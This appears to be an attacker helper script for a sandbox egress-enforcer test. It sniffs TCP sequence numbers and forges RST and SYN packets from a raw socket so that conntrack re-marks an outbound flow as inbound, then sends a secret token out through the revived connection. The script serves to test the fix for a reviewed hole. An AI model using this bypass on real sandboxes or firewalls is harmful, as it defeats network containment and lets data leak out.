"""The inbound-revival attack on enforce.inbound_replies (test_enforcer.py; found in an attack
review, 2026-12-06), as a sandbox process with Docker's NET_RAW runs it. Under `public`: a TCP
connection to ADDR:PORT (with LISTENER=listener from a port a SO_REUSEPORT listener shares, so
the flow reaper takes it for an accepted connection and spares it), a hello, and the sequence
numbers read off eth0 (AF_PACKET). After the switch (on "go"), with MODE=rst_syn: an in-window
RST and then a SYN on the flow's tuple from a raw socket. Chain output denies both, but
conntrack (priority -200) has taken them first: the RST closes the entry and the SYN makes
conntrack drop it. The server's next segment then starts a fresh conntrack entry from outside,
taken up mid-stream; chain input used to mark it INBOUND, and every packet the sandbox sent on
the old connection left as a reply to an inbound flow, in any phase. MODE=none is the control.

Usage: inbound_revive_attacker.py ADDR PORT MODE LISTENER TOKEN
Prints READY (connected, hello acknowledged, sequence numbers known), FORGED once the raw
segments are sent (the server may send its next segment then), then one JSON line: "got" what
arrived after the switch, "secret" how sending SECRET-TOKEN went, "answer" the server's answer
to it (GOT) or the error, "forge_errors" what the raw sends returned."""
import json, os, select, socket, struct, sys, time
from rawtcp import tcp

addr, port, mode, listener, token = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5]
V6 = ":" in addr
AF = socket.AF_INET6 if V6 else socket.AF_INET
ME = "2001:db8:1::2" if V6 else "192.0.2.2"
WAIT = 5.0  # s: the bound on every wait below


sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))  # ETH_P_ALL
sniff.bind(("eth0", 0))
if listener == "listener":
    lst = socket.socket(AF, socket.SOCK_STREAM)
    lst.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
    lst.bind(("::" if V6 else "0.0.0.0", 0))
    lst.listen(1)
    lport = lst.getsockname()[1]
else:
    lport = 0
c = socket.socket(AF, socket.SOCK_STREAM)
c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
c.bind((ME, lport))
c.settimeout(WAIT)
c.connect((addr, port))
lport = c.getsockname()[1]
hello = b"hello " + token.encode() + b"\n"
c.sendall(hello)

# The flow's next sequence numbers each way: ours past the hello, the server's past its SYN, and
# the server's ACK of the hello (so nothing of ours is still in flight).
me_b, peer_b = socket.inet_pton(AF, ME), socket.inet_pton(AF, addr)
snd_nxt = rcv_nxt = None
acked = False
deadline = time.monotonic() + WAIT
while snd_nxt is None or rcv_nxt is None or not acked:
    left = deadline - time.monotonic()
    if left <= 0 or not select.select([sniff], [], [], left)[0]:
        sys.exit(f"no sequence numbers within {WAIT} s: snd_nxt={snd_nxt} rcv_nxt={rcv_nxt} acked={acked}")
    fr = sniff.recv(65535)
    if V6:
        if fr[12:14] != b"\x86\xdd" or fr[14 + 6] != 6: continue
        ip, hl, plen = fr[14:], 40, struct.unpack("!H", fr[18:20])[0]
        src, dst = ip[8:24], ip[24:40]
    else:
        if fr[12:14] != b"\x08\x00" or fr[14 + 9] != 6: continue
        ip = fr[14:]
        hl, plen = (ip[0] & 15) * 4, struct.unpack("!H", ip[2:4])[0] - (ip[0] & 15) * 4
        src, dst = ip[12:16], ip[16:20]
    sp, dp, seq, ack, off, fl = struct.unpack("!HHIIBB", ip[hl:hl + 14])
    end = (seq + plen - (off >> 4) * 4 + (1 if fl & 0x02 else 0) + (1 if fl & 0x01 else 0)) & 0xffffffff
    if src == me_b and dst == peer_b and sp == lport and dp == port and plen - (off >> 4) * 4 > 0:
        snd_nxt = end
    if src == peer_b and dst == me_b and sp == port and dp == lport:
        if fl & 0x02: rcv_nxt = end
        if snd_nxt is not None and fl & 0x10 and ack == snd_nxt: acked = True
print("READY", flush=True)

sys.stdin.readline()  # the test has switched the phase and the reaper has run
res = {"lport": lport}
raw = socket.socket(AF, socket.SOCK_RAW, socket.IPPROTO_TCP)
if V6:
    raw.setsockopt(socket.IPPROTO_IPV6, getattr(socket, "IPV6_CHECKSUM", 7), 16)
raw.bind((ME, 0))
errs = []
if mode == "rst_syn":
    # RST|ACK at our next sequence number, then a SYN far from it (conntrack takes a SYN on a
    # closed entry for a new connection and drops the old entry).
    for flags, seq, ack in ((0x14, snd_nxt, rcv_nxt), (0x02, (snd_nxt + 0x40000000) & 0xffffffff, 0)):
        try:
            seg = tcp(ME, addr, lport, port, seq, ack, flags, win=65535,
                      good=None if V6 else True)  # IPv6: the kernel fills the checksum in (IPV6_CHECKSUM)
            raw.sendto(seg, (addr, 0))
            errs.append("sent")
        except OSError as e:
            errs.append(os.strerror(e.errno))
res["forge_errors"] = errs
print("FORGED", flush=True)

got = b""
try:
    while b"HB\n" not in got:
        d = c.recv(100)
        if not d:
            res["got_eof"] = True
            break
        got += d
except OSError as e:
    res["got_error"] = os.strerror(e.errno) if e.errno else repr(e)
res["got"] = got.decode(errors="replace")
try:
    c.sendall(b"SECRET-" + token.encode() + b"\n")
    res["secret"] = "sent"
    answer = b""
    while b"GOT\n" not in answer:
        d = c.recv(100)
        if not d:
            break
        answer += d
    res["answer"] = answer.decode(errors="replace")
except OSError as e:
    res["secret" if "secret" not in res else "answer"] = os.strerror(e.errno) if e.errno else repr(e)
print(json.dumps(res), flush=True)
